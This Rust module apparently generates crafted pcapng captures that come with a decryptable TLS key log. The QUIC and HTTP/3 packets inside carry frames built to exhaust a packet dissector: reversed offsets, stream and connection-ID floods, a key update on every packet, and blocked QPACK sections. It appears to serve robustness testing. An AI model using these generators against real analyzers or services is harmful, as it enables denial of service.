//! Attacks inside QUIC: a connection is opened with keys that a key log in the capture has, then its packets carry hostile frames.

use super::load::{CLIENT, Load, SERVER, half, udp, word};
use super::{Attack, Kind};
use aes::Aes128;
use aes::cipher::BlockCipherEncrypt;
use aes_gcm::aead::{Aead, Payload};
use aes_gcm::{Aes128Gcm, KeyInit};
use hkdf::Hkdf;
use sha2::Sha256;
use std::io;

type Write = fn(&mut Connection<'_>) -> io::Result<()>;

pub fn all() -> Vec<Attack> {
    let list: &[(&str, &str, Write)] = &[
        ("quic crypto in reverse", "quic", crypto_in_reverse),
        ("quic streams", "dissect.evicted", streams),
        ("quic unidirectional streams", "dissect.evicted", unidirectional_streams),
        ("quic data in reverse", "quic", data_in_reverse),
        ("quic connection IDs", "dissect.evicted", connection_ids),
        ("quic key updates", "quic", key_updates),
        ("http3 blocked sections", "http3.header.qpack.blocked", blocked_sections),
        ("http3 table entries", "http3", table_entries),
        ("http3 parts of frames", "quic", parts_of_frames),
    ];
    let attack = |(name, shows, write): &(&str, &'static str, Write)| {
        let write = *write;
        Attack {
            name: (*name).to_owned(),
            shows,
            kind: Kind::File("pcapng"),
            views: super::VIEWS,
            write: Box::new(move |load| write(&mut Connection::open(load)?)),
        }
    };
    list.iter().map(attack).collect()
}

const SECRET: usize = 32;
const ID: usize = 8;
/// The connection ID that the Initial keys derive from, and those that client and server have chosen.
const FIRST: [u8; ID] = *b"first-id";
const OWN: [[u8; ID]; 2] = [*b"clientid", *b"serverid"];
const RANDOM: [u8; 32] = [0x52; 32];
/// Bytes of frames of one packet.
const PACKET: usize = 1200;

/// HKDF-Expand-Label of TLS 1.3.
fn expand(secret: &[u8], label: &str, size: usize) -> Vec<u8> {
    let label = format!("tls13 {label}");
    let lengths = [half(size).to_be_bytes()[0], half(size).to_be_bytes()[1], half(label.len()).to_be_bytes()[1]];
    let info = [&lengths[..], label.as_bytes(), &[0]].concat();
    let mut bytes = vec![0; size];
    let expanded = Hkdf::<Sha256>::from_prk(secret).map(|prk| prk.expand(&info, &mut bytes));
    assert!(matches!(expanded, Ok(Ok(()))), "{size} bytes derive from a secret");
    bytes
}

/// Keys of one direction.
struct Keys {
    aead: Aes128Gcm,
    iv: [u8; 12],
    header: Aes128,
}

impl Keys {
    fn of(secret: &[u8]) -> io::Result<Keys> {
        let key = |label| expand(secret, label, 16);
        let aead = Aes128Gcm::new_from_slice(&key("quic key")).map_err(io::Error::other)?;
        let header = <Aes128 as KeyInit>::new_from_slice(&key("quic hp")).map_err(io::Error::other)?;
        Ok(Keys { aead, iv: expand(secret, "quic iv", 12).try_into().unwrap_or_default(), header })
    }

    /// A protected packet. Its header ends with a packet number of four bytes.
    fn seal(&self, header: &[u8], number: u32, frames: &[u8]) -> io::Result<Vec<u8>> {
        let mut nonce = self.iv;
        nonce.iter_mut().rev().zip(number.to_le_bytes()).for_each(|(byte, digit)| *byte ^= digit);
        let payload = Payload { msg: frames, aad: header };
        let sealed = self.aead.encrypt(&nonce.into(), payload).map_err(io::Error::other)?;
        let mut mask = aes::Block::default();
        mask.iter_mut().zip(&sealed).for_each(|(byte, sample)| *byte = *sample);
        self.header.encrypt_block(&mut mask);
        let mut header = header.to_vec();
        let place = header.len() - 4;
        let bits = if header.first().is_some_and(|first| first & 0x80 != 0) { 0x0f } else { 0x1f };
        let protected = std::iter::once((0, bits)).chain((place..place + 4).map(|place| (place, 0xff)));
        for ((place, bits), mask) in protected.zip(mask) {
            header.iter_mut().skip(place).take(1).for_each(|byte| *byte ^= mask & bits);
        }
        Ok([header, sealed].concat())
    }
}

/// A variable-length integer.
fn varint(number: u64) -> Vec<u8> {
    match number {
        0..0x40 => vec![number.to_le_bytes()[0]],
        0x40..0x4000 => (half(usize::try_from(number).unwrap_or_default()) | 0x4000).to_be_bytes().to_vec(),
        _ => (number | 0xc000_0000_0000_0000).to_be_bytes().to_vec(),
    }
}

fn crypto(offset: u64, bytes: &[u8]) -> Vec<u8> {
    [vec![6], varint(offset), varint(bytes.len() as u64), bytes.to_vec()].concat()
}

/// A STREAM frame with an offset and a length.
fn stream(id: u64, offset: u64, bytes: &[u8]) -> Vec<u8> {
    [vec![0x0e], varint(id), varint(offset), varint(bytes.len() as u64), bytes.to_vec()].concat()
}

/// A handshake message.
fn handshake(kind: u8, body: &[u8]) -> Vec<u8> {
    let [_, a, b, c] = word(body.len()).to_be_bytes();
    [&[kind, a, b, c], body].concat()
}

/// A connection in a pcapng file.
struct Connection<'l> {
    load: &'l mut Load,
    /// Secrets of 1-RTT packets of each side.
    secrets: [Vec<u8>; 2],
    keys: [Keys; 2],
    next: [u32; 2],
    /// Key phase of the client.
    phase: u8,
}

impl<'l> Connection<'l> {
    fn open(load: &'l mut Load) -> io::Result<Connection<'l>> {
        let secrets: [[u8; SECRET]; 4] = [[1; SECRET], [2; SECRET], [3; SECRET], [4; SECRET]];
        let hex = |bytes: &[u8]| bytes.iter().map(|byte| format!("{byte:02x}")).collect::<String>();
        let labels = [
            "CLIENT_HANDSHAKE_TRAFFIC_SECRET",
            "SERVER_HANDSHAKE_TRAFFIC_SECRET",
            "CLIENT_TRAFFIC_SECRET_0",
            "SERVER_TRAFFIC_SECRET_0",
        ];
        let line = |(label, secret): (&str, &[u8; SECRET])| format!("{label} {} {}\n", hex(&RANDOM), hex(secret));
        let key_log: String = labels.into_iter().zip(&secrets).map(line).collect();
        block(load, 0x0a0d_0d0a, &[&0x1a2b_3c4d_u32.to_le_bytes()[..], &[1, 0, 0, 0], &[0xff; 8]].concat())?;
        block(load, 1, &[101, 0, 0, 0, 0, 0, 4, 0])?;
        let head = [0x544c_534b_u32, word(key_log.len())].map(u32::to_le_bytes).concat();
        block(load, 10, &[&head, key_log.as_bytes()].concat())?;
        let [_, handshake, own, other] = secrets;
        let keys = [Keys::of(&own)?, Keys::of(&other)?];
        let mut connection = Connection { load, secrets: [own.to_vec(), other.to_vec()], keys, next: [0; 2], phase: 0 };
        connection.handshake(&handshake)?;
        Ok(connection)
    }

    /// The hellos, and the extensions of the server, which select HTTP/3.
    fn handshake(&mut self, server_secret: &[u8]) -> io::Result<()> {
        let hello = [&[3, 3][..], &RANDOM, b"\0\0\x02\x13\x01\x01\0\0\x07\0\x2b\0\x03\x02\x03\x04"].concat();
        let client = long(0xc3, [&FIRST, &OWN[0]], &initial("client in")?, 0, &crypto(0, &handshake(1, &hello)))?;
        self.datagram(0, &client)?;
        let hello = [&[3, 3][..], &[0x53; 32], b"\0\x13\x01\0\0\x06\0\x2b\0\x02\x03\x04"].concat();
        let server = long(0xc3, [&OWN[0], &OWN[1]], &initial("server in")?, 0, &crypto(0, &handshake(2, &hello)))?;
        let extensions = handshake(8, b"\0\x09\0\x10\0\x05\0\x03\x02h3");
        let selects = long(0xe3, [&OWN[0], &OWN[1]], &Keys::of(server_secret)?, 0, &crypto(0, &extensions))?;
        self.datagram(1, &[server, selects].concat())
    }

    fn datagram(&mut self, from: usize, payload: &[u8]) -> io::Result<()> {
        let (ends, ports) = if from == 0 { ([CLIENT, SERVER], [50_000, 443]) } else { ([SERVER, CLIENT], [443, 50_000]) };
        let packet = udp(ends, ports, payload);
        let [time, length] = [self.next.iter().sum::<u32>() * 100, word(packet.len())];
        let head = [0, 0x5_0000, time, length, length].map(u32::to_le_bytes).concat();
        block(self.load, 6, &[head, packet].concat())
    }

    /// A 1-RTT packet.
    fn send(&mut self, from: usize, frames: &[u8]) -> io::Result<()> {
        let number = self.next.get(from).copied().unwrap_or_default();
        let phase = if from == 0 { self.phase } else { 0 };
        let id = OWN.get(1 - from).unwrap_or(&FIRST);
        let header = [&[0x43 | phase][..], id, &number.to_be_bytes()].concat();
        let Some(packet) = self.keys.get(from).map(|keys| keys.seal(&header, number, frames)) else { return Ok(()) };
        self.next.iter_mut().skip(from).take(1).for_each(|next| *next += 1);
        self.datagram(from, &packet?)
    }

    /// Frames with consecutive numbers, as many as fit into each packet, as long as there is room.
    fn fill(&mut self, from: usize, mut frame: impl FnMut(u64) -> Vec<u8>) -> io::Result<()> {
        let mut number = 0;
        while self.load.is_within_limit() {
            let mut frames = Vec::new();
            while frames.len() < PACKET {
                frames.extend(frame(number));
                number += 1;
            }
            self.send(from, &frames)?;
        }
        Ok(())
    }
}

/// A block of pcapng.
fn block(load: &mut Load, kind: u32, body: &[u8]) -> io::Result<()> {
    let mut body = body.to_vec();
    body.resize(body.len().next_multiple_of(4), 0);
    let length = word(body.len() + 12).to_le_bytes();
    load.put(&[&kind.to_le_bytes(), &length, &body[..], &length].concat())
}

fn initial(label: &str) -> io::Result<Keys> {
    const SALT: [u8; 20] =
        [0x38, 0x76, 0x2c, 0xf7, 0xf5, 0x59, 0x34, 0xb3, 0x4d, 0x17, 0x9a, 0xe6, 0xa4, 0xc8, 0x0c, 0xad, 0xcc, 0xbb, 0x7f, 0x0a];
    let (secret, _) = Hkdf::<Sha256>::extract(Some(&SALT), &FIRST);
    Keys::of(&expand(&secret, label, SECRET))
}

/// A packet with a long header.
fn long(first: u8, [to, from]: [&[u8; ID]; 2], keys: &Keys, number: u32, frames: &[u8]) -> io::Result<Vec<u8>> {
    let token: &[u8] = if first & 0x30 == 0 { &[0] } else { &[] };
    let length = (half(frames.len() + 4 + 16) | 0x4000).to_be_bytes();
    let header = [&[first, 0, 0, 0, 1, 8][..], to, &[8], from, token, &length, &number.to_be_bytes()].concat();
    keys.seal(&header, number, frames)
}

/// Handshake bytes of Initial packets, of which the first is missing.
fn crypto_in_reverse(connection: &mut Connection<'_>) -> io::Result<()> {
    let keys = initial("client in")?;
    let mut number = 0;
    while connection.load.is_within_limit() {
        let frames: Vec<u8> =
            (0..200).flat_map(|frame| crypto(65_000 - (u64::from(number) * 200 + frame) % 32_000 * 2, b"a")).collect();
        number += 1;
        connection.datagram(0, &long(0xc3, [&OWN[1], &OWN[0]], &keys, number, &frames)?)?;
    }
    Ok(())
}

fn streams(connection: &mut Connection<'_>) -> io::Result<()> {
    connection.fill(0, |number| stream(4 * number, 0, &[0]))
}

fn unidirectional_streams(connection: &mut Connection<'_>) -> io::Result<()> {
    connection.fill(0, |number| stream(4 * number + 2, 0, &[0x21]))
}

/// Bytes behind holes, the last first.
fn data_in_reverse(connection: &mut Connection<'_>) -> io::Result<()> {
    connection.fill(0, |number| stream(0, (1 << 32) - 2 * number, b"a"))
}

fn connection_ids(connection: &mut Connection<'_>) -> io::Result<()> {
    let frame = |number: u64| [vec![0x18], varint(number), vec![0, 8], number.to_be_bytes().to_vec(), vec![0; 16]].concat();
    connection.fill(0, frame)
}

/// Each packet has keys of its own.
fn key_updates(connection: &mut Connection<'_>) -> io::Result<()> {
    while connection.load.is_within_limit() {
        connection.send(0, &[1; 20])?;
        let [own, other] = &connection.secrets;
        let next = expand(own, "quic ku", SECRET);
        let mut keys = Keys::of(&next)?;
        // The key of header protection stays.
        std::mem::swap(&mut keys.header, &mut connection.keys[0].header);
        connection.keys[0] = keys;
        connection.secrets = [next, other.clone()];
        connection.phase ^= 4;
    }
    Ok(())
}

/// Settings of the server: a dynamic table of 64 KiB, and streams that may wait for its entries.
fn settings(connection: &mut Connection<'_>) -> io::Result<()> {
    connection.send(1, &stream(3, 0, b"\0\x04\x08\x01\x80\x01\0\0\x07\x40\x64"))
}

/// Header sections that need an entry that never comes.
fn blocked_sections(connection: &mut Connection<'_>) -> io::Result<()> {
    settings(connection)?;
    connection.fill(0, |number| stream(4 * number, 0, b"\x01\x03\x02\0\x80"))
}

/// Entries of the dynamic table, each with a section that refers to it.
fn table_entries(connection: &mut Connection<'_>) -> io::Result<()> {
    settings(connection)?;
    connection.send(0, &stream(2, 0, b"\x02\x3f\xe1\xff\x03"))?;
    connection.fill(0, |number| stream(2, 5 + 4 * number, b"\x41a\x01b"))
}

/// A body that comes in parts of a byte.
fn parts_of_frames(connection: &mut Connection<'_>) -> io::Result<()> {
    connection.send(0, &stream(0, 0, b"\0\xc0\0\0\x01\0\0\0\0"))?;
    connection.fill(0, |number| stream(0, 9 + number, b"a"))
}
